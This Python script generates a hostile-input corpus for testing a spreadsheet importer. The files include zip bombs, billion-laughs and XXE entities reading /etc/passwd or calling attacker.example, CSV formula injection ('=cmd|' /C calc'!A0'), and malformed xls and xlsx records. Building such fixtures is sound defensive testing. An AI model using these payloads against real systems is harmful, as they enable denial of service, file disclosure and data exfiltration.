"""Write the hostile and broken input corpus to tests/data/bad/ (committed; run again after changing a builder).

    .venv/bin/python tests/make_bad_corpus.py [OUT_DIR]

Each file is something a buyer could receive by e-mail or chat (or an attacker could send): a zip bomb, XML
entity tricks, encrypted and corrupt workbooks, files that are not spreadsheets, sheets too large in every
direction, broken tables and absurd values. What the importer must do with each one is in
``tests/test_hostile.py`` (``EXPECTED``): refuse it with an exact error key, or load it with exact warnings.

Everything is written by hand (zipfile, struct) so the files are small and the same on every run; the only
exceptions are ``encrypted.xlsx`` (needs ``msoffcrypto-tool``, test-only; its salt is random, so it differs
between runs) and the two .xls files written by ``xlwt``. No builder holds more than a few MB in memory:
the 400 MB bomb is streamed through the compressor.
"""
from __future__ import annotations

import codecs
import datetime as dt
import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # also run as a script
from core.ingest import col_letter  # noqa: E402  (the engine's own column letters)

OUT = Path(__file__).resolve().parent / "data" / "bad"
STAMP = (2026, 1, 1, 0, 0, 0)  # fixed member dates: the same bytes on every run

HEADER = ["供应商", "套餐", "报价", "等保三级", "响应时间", "免费维护期", "功能清单"]
ROWS = [
    ["安信科技", "标准版", "22.8万", "是", "2小时内", "12个月", "用户管理、还款管理、风控审批"],
    ["融科软件", "专业版", "19.8万", "三级", "4小时", "6个月", "用户管理、还款计划、风控审批"],
]


# ------------------------------------------------------------------------------------------------
# A minimal, deterministic xlsx writer (inline strings, numbers, dates, formulas with cached values)
# ------------------------------------------------------------------------------------------------


_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/xl/workbook.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       '<Override PartName="/xl/worksheets/sheet1.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
       '<Override PartName="/xl/styles.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
       '<Override PartName="/xl/sharedStrings.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
       '</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         'officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'styles" Target="styles.xml"/>'
            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
# Two cell formats: 0 = General, 1 = a date (built-in format 14), as Excel writes a typed-in date.
_STYLES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
           '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
           '<borders count="1"><border/></borders>'
           '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
           '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
           '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
           '</styleSheet>')
_SST_EMPTY = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>')
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


class Formula(str):
    """A formula cell: the formula text, with the value Excel computed and cached beside it."""

    def __new__(cls, formula: str, cached: str):
        s = super().__new__(cls, formula)
        s.cached = cached
        return s


def _cell(ref: str, v) -> str:
    if v is None or v == "":
        return ""
    if isinstance(v, Formula):
        return f'<c r="{ref}" t="str"><f>{escape(str(v))}</f><v>{escape(v.cached)}</v></c>'
    if isinstance(v, bool):
        return f'<c r="{ref}" t="b"><v>{int(v)}</v></c>'
    if isinstance(v, (dt.date, dt.datetime)):
        base = dt.datetime(1899, 12, 30)
        when = v if isinstance(v, dt.datetime) else dt.datetime(v.year, v.month, v.day)
        return f'<c r="{ref}" s="1"><v>{(when - base).days + (when - base).seconds / 86400:g}</v></c>'
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>'


def sheet_xml(rows: list[list], prolog: str = "") -> str:
    body = "".join(
        f'<row r="{r + 1}">' + "".join(_cell(col_letter(c) + str(r + 1), v) for c, v in enumerate(row)) + "</row>"
        for r, row in enumerate(rows) if any(v not in (None, "") for v in row))
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
            f'<worksheet {_NS}><sheetData>{body}</sheetData></worksheet>')


def workbook_xml(sheet: str = "报价", prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
            f'<workbook {_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'<sheets><sheet name={quoteattr(sheet)} sheetId="1" r:id="rId1"/></sheets></workbook>')


def xlsx_parts(rows: list[list] | None = None, sheet: str = "报价", **override) -> dict[str, bytes | str]:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _CT, "_rels/.rels": _RELS, "xl/workbook.xml": workbook_xml(sheet),
        "xl/_rels/workbook.xml.rels": _WB_RELS, "xl/styles.xml": _STYLES, "xl/sharedStrings.xml": _SST_EMPTY,
        "xl/worksheets/sheet1.xml": sheet_xml(rows if rows is not None else [HEADER, *ROWS]),
    }
    parts.update(override)
    return parts


def zip_bytes(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = method
            z.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def xlsx(rows: list[list] | None = None, **override) -> bytes:
    return zip_bytes(xlsx_parts(rows, **override))


# ------------------------------------------------------------------------------------------------
# Containers that are refused before any XML is parsed
# ------------------------------------------------------------------------------------------------
def bomb_400mb() -> bytes:
    """A workbook whose sheet XML inflates to 400 MB from about 0.4 MB: streamed, never held in memory.

    The table is real; after it come 400 MB of blank space between two rows (legal XML, and the most
    compressible content there is: deflate's best ratio, about 1,000 to 1).
    """
    buf = io.BytesIO()
    chunk = b" " * 1_048_576
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in xlsx_parts().items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(zipfile.ZipInfo(name, STAMP), data)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", STAMP)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as w:
            head, tail = sheet_xml([HEADER, *ROWS]).split("</row>", 1)
            w.write((head + "</row>").encode("utf-8"))
            for _ in range(400):
                w.write(chunk)
            w.write(tail.encode("utf-8"))
    return buf.getvalue()


def zip_many_members() -> bytes:
    """A workbook with 2,100 extra (empty) parts: refused on the count alone."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in xlsx_parts().items():
            z.writestr(zipfile.ZipInfo(name, STAMP), data)
        for i in range(2100):
            z.writestr(zipfile.ZipInfo(f"x/{i}", STAMP), b"")
    return buf.getvalue()


def lying_sizes() -> bytes:
    """The zip directory says the sheet is 1 KB; it really inflates to 50 MB (a bomb hiding its size)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in xlsx_parts().items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(zipfile.ZipInfo(name, STAMP), data)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", STAMP)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w") as w:
            w.write(sheet_xml([HEADER, *ROWS]).split("</sheetData>")[0].encode("utf-8") + b"<!--")
            for _ in range(50):
                w.write(b"x" * 1_000_000)
            w.write(b"--></sheetData></worksheet>")
    out = bytearray(buf.getvalue())
    target = b"xl/worksheets/sheet1.xml"
    # central directory entry (PK 1 2): uncompressed size at +24, name length at +28, name at +46;
    # local header (PK 3 4): uncompressed size at +22, name length at +26, name at +30
    for sig, size_at, len_at, name_at in ((b"PK\x01\x02", 24, 28, 46), (b"PK\x03\x04", 22, 26, 30)):
        i = 0
        while (i := out.find(sig, i)) >= 0:
            n = struct.unpack_from("<H", out, i + len_at)[0]
            if out[i + name_at:i + name_at + n] == target:
                struct.pack_into("<I", out, i + size_at, 1024)
            i += 4
    return bytes(out)


def zip_password() -> bytes:
    """A zip whose members are flagged as encrypted with a zip password (not how Excel does it)."""
    out = bytearray(xlsx())
    for sig, flag_at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        i = 0
        while (i := out.find(sig, i)) >= 0:
            flags = struct.unpack_from("<H", out, i + flag_at)[0]
            struct.pack_into("<H", out, i + flag_at, flags | 1)
            i += 4
    return bytes(out)


def zip_future_version() -> bytes:
    """A zip directory asking for a zip version from the future (25.5) to extract a member."""
    out = bytearray(xlsx())
    i = out.find(b"PK\x01\x02")
    struct.pack_into("<H", out, i + 6, 255)  # version needed to extract
    return bytes(out)


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                            for i in range(1, 10))
                  + "]>\n")


def billion_laughs() -> bytes:
    rows = [HEADER, ["&lol9;"] + ROWS[0][1:]]
    xml = sheet_xml(rows, prolog=BILLION_LAUGHS).replace("&amp;lol9;", "&lol9;")
    return xlsx(**{"xl/worksheets/sheet1.xml": xml})


def xxe_passwd() -> bytes:
    prolog = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    xml = sheet_xml([HEADER, ["&xxe;"] + ROWS[0][1:]], prolog=prolog).replace("&amp;xxe;", "&xxe;")
    return xlsx(**{"xl/worksheets/sheet1.xml": xml})


def doctype_shared_strings() -> bytes:
    sst = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<!DOCTYPE sst [<!ENTITY e SYSTEM "http://attacker.example/collect">]>'
           f'<sst {_NS} count="1" uniqueCount="1"><si><t>&e;</t></si></sst>')
    rows = [HEADER, *ROWS]
    xml = sheet_xml(rows).replace('<c r="A2" t="inlineStr"><is><t xml:space="preserve">安信科技</t></is></c>',
                                  '<c r="A2" t="s"><v>0</v></c>')
    return xlsx(**{"xl/sharedStrings.xml": sst, "xl/worksheets/sheet1.xml": xml})


def doctype_after_comment() -> bytes:
    """The DOCTYPE of workbook.xml sits after 20 KB of comment: past any 'first 4 KB' check."""
    prolog = "<!--" + " padding " * 2300 + "-->\n" + '<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
    return xlsx(**{"xl/workbook.xml": workbook_xml(prolog=prolog)})


def doctype_utf16() -> bytes:
    """Sheet XML in UTF-16 with an entity declaration: a byte search for '<!DOCTYPE' alone misses it."""
    xml = sheet_xml([HEADER, *ROWS], prolog=BILLION_LAUGHS).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return xlsx(**{"xl/worksheets/sheet1.xml": codecs.BOM_UTF16_LE + xml.encode("utf-16-le")})


_ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
_ODS_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?>'
                 '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                 'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
                 'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                 '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                 '</manifest:manifest>')


def _ods_row(values: list) -> str:
    cells = "".join(f'<table:table-cell office:value-type="string"><text:p>{escape(str(v))}</text:p></table:table-cell>'
                    for v in values)
    return f"<table:table-row>{cells}</table:table-row>"


def ods(rows_xml: str, prolog: str = "") -> bytes:
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<office:document-content {_ODS_NS} '
               f'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="报价">{rows_xml}'
               "</table:table></office:spreadsheet></office:body></office:document-content>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype", STAMP), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr(zipfile.ZipInfo("META-INF/manifest.xml", STAMP), _ODS_MANIFEST,
                   compress_type=zipfile.ZIP_DEFLATED)
        z.writestr(zipfile.ZipInfo("content.xml", STAMP), content, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def ods_entities() -> bytes:
    rows = _ods_row(HEADER) + _ods_row(ROWS[0]).replace("安信科技", "&lol9;")
    return ods(rows, prolog=BILLION_LAUGHS)


def ods_repeat_bomb() -> bytes:
    """Under 1 KB: one row repeated 90,000 times with one value repeated in 400 columns = 36 million cells."""
    rows = (_ods_row(HEADER) + '<table:table-row table:number-rows-repeated="90000">'
            '<table:table-cell table:number-columns-repeated="400" office:value-type="float" office:value="1">'
            "<text:p>1</text:p></table:table-cell></table:table-row>")
    return ods(rows)


def sparse_far_cell() -> bytes:
    """600 bytes: a value in A1 and one in XFD1048576. The reader would allocate 17 billion cells (549 GB)."""
    xml = sheet_xml([HEADER, *ROWS]).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    return xlsx(**{"xl/worksheets/sheet1.xml": xml})


def sparse_area() -> bytes:
    """Row and column counts each under their limit (100,000 x 500), but 50 million cells in all."""
    xml = sheet_xml([HEADER, *ROWS]).replace(
        "</sheetData>", '<row r="100000"><c r="SF100000"><v>1</v></c></row></sheetData>')
    return xlsx(**{"xl/worksheets/sheet1.xml": xml})


def too_many_cols_xlsx() -> bytes:
    """One real table, and a value 700 columns to the right (a prefixed tag, lower-case reference)."""
    xml = sheet_xml([HEADER, *ROWS]).replace(
        "</sheetData>", '<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="5">'
                        "<x:c r='zz5'><x:v>1</x:v></x:c></x:row></sheetData>")
    return xlsx(**{"xl/worksheets/sheet1.xml": xml})


def _merged(rows_xml_tail: str, merges: list[str]) -> bytes:
    xml = sheet_xml([HEADER, *ROWS]).replace("</sheetData>", rows_xml_tail + "</sheetData>")
    xml = xml.replace("</worksheet>", f'<mergeCells count="{len(merges)}">'
                      + "".join(f'<mergeCell ref="{m}"/>' for m in merges) + "</mergeCells></worksheet>")
    return xlsx(**{"xl/worksheets/sheet1.xml": xml})


def merges_overlapping() -> bytes:
    """1,000 vertical merged areas piled on one column of a 20,000-row sheet: filling each would touch
    19 million cells. Excel never writes overlapping merges; the cells load, unfilled."""
    return _merged('<row r="20000"><c r="H20000" t="inlineStr"><is><t>制表：采购部</t></is></c></row>',
                   [f"A{2 + i}:A20000" for i in range(1000)])


def merges_too_many() -> bytes:
    """150,000 merged areas (the reader would return each one as Python tuples): the same one, repeated."""
    return _merged("", ["H4:I4"] * 150_000)


def _sst(n: int) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<sst {_NS} count="{n}" uniqueCount="{n}">' + "<si><t>a</t></si>" * n + "</sst>")


def shared_strings_flood() -> bytes:
    """5.8 million one-letter shared strings (94 MB of XML, inside the 100 MB limit) beside a 21-cell table:
    240 KB that cost the reader 2 s and 300 MB."""
    return xlsx(**{"xl/sharedStrings.xml": _sst(5_800_000)})


def xlsb_renamed() -> bytes:
    parts = {"[Content_Types].xml": _CT.replace("workbook.xml", "workbook.bin"), "_rels/.rels": _RELS,
             "xl/workbook.bin": b"\x83\x01\x00", "xl/worksheets/sheet1.bin": b"\x81\x01\x00"}
    return zip_bytes(parts)


def word_document() -> bytes:
    parts = {"[Content_Types].xml": _CT.replace("/xl/workbook.xml", "/word/document.xml"), "_rels/.rels": _RELS,
             "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body/></w:document>'}
    return zip_bytes(parts)


def bad_crc() -> bytes:
    """A byte of the stored (uncompressed) sheet changed after the CRC was written."""
    data = bytearray(zip_bytes(xlsx_parts(), method=zipfile.ZIP_STORED))
    i = data.find("融科软件".encode("utf-8"))
    data[i + 3] ^= 0x01
    return bytes(data)


def truncated_central_dir() -> bytes:
    data = xlsx()
    return data[:data.rfind(b"PK\x01\x02") + 20]


def encrypted_xlsx() -> bytes:
    """A real workbook encrypted with the password '1234' as Excel does it (an OLE container)."""
    from msoffcrypto.format.ooxml import OOXMLFile  # test-only dependency: msoffcrypto-tool

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(xlsx())).encrypt("1234", out)
    return out.getvalue()


def _xls(cells: list[tuple[int, int, object]]) -> bytes:
    import xlwt  # test-only dependency

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("报价")
    for r, c, v in cells:
        sheet.write(r, c, v)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _table_cells() -> list[tuple[int, int, object]]:
    return [(r, c, v) for r, row in enumerate([HEADER, *ROWS]) for c, v in enumerate(row)]


def _biff_record(data: bytes, typ: int) -> int:
    """Offset of the first record of a type in the Workbook stream (xlwt writes it from offset 512)."""
    i = 512
    while i + 4 <= len(data):
        t, size = struct.unpack_from("<HH", data, i)
        if t == typ:
            return i
        i += 4 + size
    raise LookupError(hex(typ))


def xls_far_cell() -> bytes:
    """A legacy .xls with a number in IV65536 beside the table: 16.7 million cells to allocate."""
    return _xls(_table_cells() + [(65535, 255, 1.5)])


def xls_hostile_dimensions() -> bytes:
    """The DIMENSIONS record claims 4 billion rows x 65,535 columns: the reader reserves memory from it."""
    data = _xls(_table_cells())
    i = _biff_record(data, 0x0200)
    assert struct.unpack_from("<H", data, i + 2)[0] == 14
    return data[:i + 4] + struct.pack("<IIHHH", 0, 0xFFFFFFFF, 0, 0xFFFF, 0) + data[i + 18:]


def encrypted_xls() -> bytes:
    """A legacy .xls with a FILEPASS record (password to open): written over WINDOW1, same length."""
    data = _xls(_table_cells())
    i = _biff_record(data, 0x003D)
    size = struct.unpack_from("<H", data, i + 2)[0]
    body = struct.pack("<HHH", 0, 0x1234, 0x5678).ljust(size, b"\0")  # XOR obfuscation, key, verifier
    return data[:i] + struct.pack("<HH", 0x002F, size) + body + data[i + 4 + size:]


def calamine_panic_xls() -> bytes:
    """One flipped bit in a record length (found by tests/test_fuzz.py): the Rust reader panics on it."""
    data = bytearray(_xls(_table_cells()))
    assert data[1426] == 0x00
    data[1426] ^= 1 << 3
    return bytes(data)


def truncated_xls() -> bytes:
    data = _xls(_table_cells())
    return data[:len(data) // 2]


# ------------------------------------------------------------------------------------------------
# Not spreadsheets at all
# ------------------------------------------------------------------------------------------------
def program() -> bytes:
    """The first bytes of a Windows program (MZ / PE header), named .xlsx."""
    return (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
            + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 256)


def pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] "
            b"/Count 0 >>\nendobj\nxref\n0 3\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n")


def png() -> bytes:
    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


def web_export_xls() -> bytes:
    """What many web back-offices produce for "export to Excel": an HTML table named .xls."""
    cells = "".join(f"<td>{escape(v)}</td>" for v in HEADER)
    body = "".join("<tr>" + "".join(f"<td>{escape(v)}</td>" for v in row) + "</tr>" for row in ROWS)
    return ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
            '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            f"<table border=1><tr>{cells}</tr>{body}</table></body></html>").encode("utf-8")


def xml_spreadsheet_2003() -> bytes:
    rows = "".join("<Row>" + "".join(f'<Cell><Data ss:Type="String">{escape(v)}</Data></Cell>' for v in row)
                   + "</Row>" for row in [HEADER, *ROWS])
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<?mso-application progid="Excel.Sheet"?>\n'
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
            'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
            f'<Worksheet ss:Name="报价"><Table>{rows}</Table></Worksheet></Workbook>').encode("utf-8")


# ------------------------------------------------------------------------------------------------
# Tables that are empty, too big or broken
# ------------------------------------------------------------------------------------------------
def csv_text(rows: list[list], sep: str = ",") -> str:
    import csv

    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def too_many_rows_csv() -> bytes:
    """The table, then 100,001 one-letter rows (200 KB)."""
    return (csv_text([HEADER, *ROWS]) + "x\n" * 100_001).encode("utf-8")


def too_many_cols_csv() -> bytes:
    header = HEADER + [f"备注{i}" for i in range(600)]
    return csv_text([header, ROWS[0] + ["x"] * 600]).encode("utf-8")


def wide_line_csv() -> bytes:
    """One line of 200,000 commas after the table: parsed, it would be one row of 200,001 cells."""
    return (csv_text([HEADER, *ROWS]) + "," * 200_000 + "\n").encode("utf-8")


def empty_sheet() -> bytes:
    return xlsx([])


def title_only() -> bytes:
    return xlsx([["某小贷公司 系统源码报价汇总（2026年11月）"], [], ["制表：采购部"]])


def headers_only() -> bytes:
    return xlsx([HEADER])


def no_vendor() -> bytes:
    return xlsx([HEADER[1:], *[r[1:] for r in ROWS]])


# ------------------------------------------------------------------------------------------------
# Files that load, with exact warnings
# ------------------------------------------------------------------------------------------------
def duplicate_quote() -> bytes:
    return xlsx([HEADER, ROWS[0], ROWS[1], ["安信科技", "标准版", "23万", "是", "2小时", "12个月", "用户管理"]])


def absurd_values() -> bytes:
    return xlsx([HEADER,
                 ["安信科技", "标准版", 1e15, "是", "2小时内", "12个月", "用户管理"],
                 ["融科软件", "专业版", "-5万", "三级", "-3 h", "6个月", "用户管理"],
                 ["信达系统", "基础版", "19万", "是", -3, "-12个月", "用户管理"]])


def dates_as_numbers() -> bytes:
    return xlsx([HEADER,
                 ["安信科技", "标准版", dt.date(2026, 3, 1), "是", "2小时内", "12个月", "用户管理"],
                 ["融科软件", "专业版", "19.8万", "三级", dt.datetime(2026, 1, 2, 9, 30), "2026-12-31", "用户管理"]])


def huge_cell() -> bytes:
    """A 1 MB feature list in one cell: kept (cut to the cell limit) with a warning naming the cell."""
    return xlsx([HEADER, ROWS[0][:6] + ["用户管理、" * 200_000], ROWS[1]])


def formula_vendor() -> bytes:
    """Vendor names written as formulas; what counts is the text Excel shows, never the formula."""
    return xlsx([HEADER,
                 [Formula('HYPERLINK("http://attacker.test/x","安信科技")', "安信科技")] + ROWS[0][1:],
                 [Formula('CONCATENATE("融科","软件")', "融科软件")] + ROWS[1][1:]])


def csv_injection() -> bytes:
    rows = [["=cmd|' /C calc'!A0"], HEADER, ['=HYPERLINK("http://attacker.test/x","安信科技")'] + ROWS[0][1:],
            ["+1+1"] + ROWS[1][1:], ["@SUM(1)", "旗舰版"] + ROWS[1][2:]]
    return csv_text(rows).encode("utf-8")


def nul_bytes_csv() -> bytes:
    """Stray NUL bytes inside the text and a run of zero padding after it (a copy cut short)."""
    text = csv_text([HEADER, *ROWS]).encode("utf-8")
    return text.replace("融科".encode(), b"\x00" + "融科".encode()) + b"\x00" * 512


def utf16_no_bom_csv() -> bytes:
    """UTF-16LE without a byte-order mark, mostly Chinese (few NUL bytes: only ASCII has them)."""
    return csv_text([HEADER, *ROWS]).encode("utf-16-le")


def mixed_encoding_csv() -> bytes:
    """Header and first quote in UTF-8, the second quote pasted in from a GBK file."""
    return (csv_text([HEADER, ROWS[0]]).encode("utf-8") + csv_text([ROWS[1]]).encode("gbk"))


def tsv_named_xls() -> bytes:
    """Tab-separated GBK text named .xls: what many systems call an Excel export."""
    return csv_text([HEADER, *ROWS], sep="\t").encode("gbk")


BUILDERS = {
    # refused before parsing: containers, limits, XML entities
    "bomb_400mb.xlsx": bomb_400mb,
    "zip_many_members.xlsx": zip_many_members,
    "lying_sizes.xlsx": lying_sizes,
    "zip_password.xlsx": zip_password,
    "zip_future_version.xlsx": zip_future_version,
    "billion_laughs.xlsx": billion_laughs,
    "xxe_passwd.xlsx": xxe_passwd,
    "doctype_shared_strings.xlsx": doctype_shared_strings,
    "doctype_after_comment.xlsx": doctype_after_comment,
    "doctype_utf16.xlsx": doctype_utf16,
    "ods_entities.ods": ods_entities,
    "ods_repeat_bomb.ods": ods_repeat_bomb,
    "sparse_far_cell.xlsx": sparse_far_cell,
    "sparse_area.xlsx": sparse_area,
    "too_many_cols_prefixed.xlsx": too_many_cols_xlsx,
    "merges_too_many.xlsx": merges_too_many,
    "shared_strings_flood.xlsx": shared_strings_flood,
    "xls_far_cell.xls": xls_far_cell,
    "xls_hostile_dimensions.xls": xls_hostile_dimensions,
    "encrypted.xlsx": encrypted_xlsx,
    "encrypted.xls": encrypted_xls,
    "bad_crc.xlsx": bad_crc,
    "truncated_central_dir.xlsx": truncated_central_dir,
    "truncated.xls": truncated_xls,
    "calamine_panic.xls": calamine_panic_xls,
    "xlsb_renamed.xlsx": xlsb_renamed,
    "word_document.xlsx": word_document,
    "program.xlsx": program,
    "document.xlsx": pdf,
    "picture.xlsx": png,
    "web_export.xls": web_export_xls,
    "xml_spreadsheet_2003.xls": xml_spreadsheet_2003,
    "too_many_rows.csv": too_many_rows_csv,
    "too_many_cols.csv": too_many_cols_csv,
    "wide_line.csv": wide_line_csv,
    "empty_sheet.xlsx": empty_sheet,
    "title_only.xlsx": title_only,
    "headers_only.xlsx": headers_only,
    "no_vendor.xlsx": no_vendor,
    # loaded, with exact warnings
    "duplicate_quote.xlsx": duplicate_quote,
    "absurd_values.xlsx": absurd_values,
    "dates_as_numbers.xlsx": dates_as_numbers,
    "huge_cell.xlsx": huge_cell,
    "merges_overlapping.xlsx": merges_overlapping,
    "formula_vendor.xlsx": formula_vendor,
    "csv_injection.csv": csv_injection,
    "nul_bytes.csv": nul_bytes_csv,
    "utf16_no_bom.csv": utf16_no_bom_csv,
    "mixed_encoding.csv": mixed_encoding_csv,
    "tsv_named.xls": tsv_named_xls,
}


def main(out: Path = OUT) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for name, build in BUILDERS.items():
        data = build()
        (out / name).write_bytes(data)
        print(f"{name:32} {len(data):>10,} bytes")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT)
